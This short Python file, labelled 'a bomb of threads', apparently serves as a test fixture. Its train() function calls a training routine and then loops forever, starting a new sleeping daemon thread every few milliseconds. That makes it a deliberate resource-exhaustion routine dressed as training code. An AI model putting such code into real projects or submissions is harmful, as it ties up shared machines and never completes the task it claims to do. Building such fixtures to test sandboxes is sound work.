"""A bomb of threads that live on."""

import threading
import time

from honest import train_network


def train(task):
    train_network(task)
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        time.sleep(0.005)
